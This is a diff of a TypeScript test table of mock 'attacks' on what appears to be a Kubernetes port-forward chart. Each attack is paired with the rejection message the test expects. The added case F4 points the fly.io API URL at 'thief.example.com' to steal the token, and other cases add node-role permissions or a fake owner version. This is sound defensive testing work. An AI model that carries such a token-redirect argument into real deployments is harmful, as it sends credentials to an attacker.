@@ -81,6 +81,10 @@ const attacks: Readonly<Record<string, readonly [change: Change, sentence: RegEx
     ({ container }) => container['args'].push('--allow-node-role'),
     /only the permissions that the chart gives/,
   ],
+  'F4: an API of fly.io that gets the token': [
+    ({ container }) => container['args'].push('--fly-api-url=https://thief.example.com'),
+    /only the permissions that the chart gives/,
+  ],
   'F5: an owner of a version that does not exist': [
     ({ object }) => (object['metadata'].ownerReferences[0].apiVersion = 'portforward.dev/v9'),
     /only objects that a PortForward controls/,
